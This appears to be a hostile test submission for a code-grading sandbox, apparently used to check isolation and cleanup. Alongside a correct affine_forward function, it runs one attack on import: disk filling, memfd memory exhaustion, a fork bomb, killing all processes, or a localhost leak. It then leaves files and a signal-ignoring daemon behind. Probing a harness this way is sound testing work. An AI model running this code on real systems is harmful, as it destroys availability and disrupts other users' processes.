"""HOSTILE: one attack on the machine (__ATTACK__), leftovers tagged __TAG__ everywhere.
Correct: all"""
import os
import signal
import socket
import time

import numpy as np

ATTACK, TAG, PORT = "__ATTACK__", "__TAG__", __PORT__
CHUNK = b"x" * (1 << 20)


def _fill(folder, limit=256):
    """Write 1 MiB files into folder until the disk (or `limit` MiB) says no."""
    try:
        for number in range(limit):
            with open(os.path.join(folder, f"{TAG}-fill-{number}"), "wb") as out:
                out.write(CHUNK)
    except OSError:
        pass


def _memfds(limit_mib=1024):
    """Memory that no address-space limit sees: memfds written, never mapped."""
    held = []
    try:
        while len(held) * 16 < limit_mib:
            fd = os.memfd_create(TAG)
            for _ in range(16):
                os.write(fd, CHUNK)
            held.append(fd)
    except OSError:
        pass
    return held


def _in_background(action, seconds):
    if os.fork() == 0:
        os.setsid()
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            try:
                action()
            except OSError:
                pass
        os._exit(0)


def _attack():
    if ATTACK == "fill_tmp":
        _fill("/tmp")
    elif ATTACK == "fill_shm":
        _fill("/dev/shm")
    elif ATTACK == "fill_folder":
        _fill(".")
    elif ATTACK == "memfd":
        return _memfds()
    elif ATTACK == "fork_bomb":
        try:
            while True:
                if os.fork() == 0:
                    time.sleep(60)
                    os._exit(0)
        except OSError:
            pass
    elif ATTACK == "kill_all":  # for a while, as the neighbours are graded
        _in_background(lambda: os.kill(-1, signal.SIGKILL), 4)
    elif ATTACK == "socket":
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
            connection.sendall(b"LEAK " + TAG.encode())
    return None


def _leave_things():
    for folder in ("/tmp", "/dev/shm", "."):
        try:
            with open(os.path.join(folder, f"{TAG}-left"), "w") as left:
                left.write("left behind")
        except OSError:
            pass
    if os.fork() == 0:  # a daemon that ignores the polite signals
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        while True:
            time.sleep(60)


try:
    HELD = _attack()
except OSError:
    HELD = None
_leave_things()


def affine_forward(x, w, b):
    return x @ w + b
